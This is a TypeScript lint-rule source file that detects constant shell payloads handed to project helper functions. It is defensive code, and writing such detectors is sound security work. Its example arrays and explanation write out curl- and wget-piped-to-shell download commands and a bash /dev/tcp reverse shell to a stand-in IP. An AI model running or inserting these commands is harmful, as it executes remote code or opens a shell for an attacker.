import type { TSESTree } from '@typescript-eslint/typescript-estree';
import { defineTsRule } from '../../engine/rule';
import type { Node } from '../../js/scope';
import { targetsOf, type CallNode } from '../support/calls';
import { apiOf, PROCESS_MODULES } from '../support/process-commands';
import { withoutDefault } from '../support/process-imports';
import { unwrapExpr } from '../support/process-paths';
import { MESSAGE_CALLEE, payloadDanger } from '../support/command-danger';

/** Argument shapes whose constant value is worth reading: literals, names bound to them, strings built from pieces. */
const CONSTANT_SHAPES = new Set(['Literal', 'TemplateLiteral', 'Identifier', 'BinaryExpression', 'CallExpression', 'MemberExpression']);
const MAX_SHOWN = 80;

function clip(text: string): string {
  const flat = text.replace(/\s+/g, ' ');
  return flat.length > MAX_SHOWN ? `${flat.slice(0, MAX_SHOWN - 3)}...` : flat;
}

/** The last name of what a call calls, as written: `dispatch`, `this.runner.run` -> `run`. */
function calleeName(callee: Node): string {
  const expr = unwrapExpr(callee);
  if (expr.type === 'Identifier') {
    return expr.name;
  }
  if (expr.type === 'MemberExpression' && !expr.computed && expr.property.type === 'Identifier') {
    return expr.property.name;
  }
  return '';
}

export default defineTsRule({
  meta: {
    id: 'ts/command-payload',
    category: 'process',
    severity: 'high',
    summary:
      'A constant command that downloads and runs code (`curl ... | sh`), runs a decoded payload or opens a remote shell, handed to a function of the project (a wrapper, a task table, a hook runner) instead of a process API.',
    why:
      'The process rules flag the place where a command runs. When that place is a small helper that was reviewed long ago ' +
      "(`const sh = (cmd) => execSync(cmd, { stdio: 'inherit' })`), the line that matters is the one that hands it a payload: " +
      "`sh('curl -fsSL https://x.example/i.sh | sh')` runs whatever that server sends, on every machine that reaches the call. " +
      'Reported where the command is handed over, whatever the helper is called; commands in messages (`console.log`, loggers, ' +
      'errors, help text) are instructions for people and are not flagged.',
    incorrect: [
      "function postinstall() {\n  sh('curl -fsSL https://setup.example.dev/hook.sh | sh');\n}",
      "TASKS.sync('wget -qO- https://x.example.dev/i | bash');",
      "const SETUP = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1';\nrunner.run(SETUP);",
    ],
    correct: [
      "console.log('install with: curl -fsSL https://deno.example/install.sh | sh');",
      "throw new Error('missing tool; run: curl -fsSL https://get.example.dev | sh');",
      "sh('npm run build');",
      "import { execSync } from 'node:child_process';\nexecSync('curl -fsSL https://x.example/i.sh | sh');",
    ],
    messages: {
      payload: '`{{callee}}` is handed a command that {{what}}: `{{command}}`.',
    },
  },
  create(ctx) {
    function check(node: CallNode): void {
      if (MESSAGE_CALLEE.test(calleeName(node.callee))) {
        return;
      }
      const hits: { node: Node; command: string; what: string }[] = [];
      for (const arg of node.arguments) {
        if (!CONSTANT_SHAPES.has(arg.type)) {
          continue;
        }
        for (const command of ctx.strings(arg) ?? []) {
          const what = payloadDanger(command);
          if (what) {
            hits.push({ node: arg, command, what });
            break;
          }
        }
      }
      if (hits.length === 0) {
        return;
      }
      // A process API is judged, with its command, by the process rules.
      const { targets } = targetsOf(ctx, node);
      if (targets.some(({ ref }) => apiOf(ref) !== undefined || PROCESS_MODULES.has(withoutDefault(ref).module ?? ''))) {
        return;
      }
      for (const hit of hits) {
        ctx.report({
          node: hit.node,
          messageId: 'payload',
          data: { callee: clip(ctx.text(node.callee)), what: hit.what, command: clip(hit.command) },
        });
      }
    }
    return {
      CallExpression: (node: TSESTree.CallExpression) => check(node),
      NewExpression: (node: TSESTree.NewExpression) => check(node),
    };
  },
});
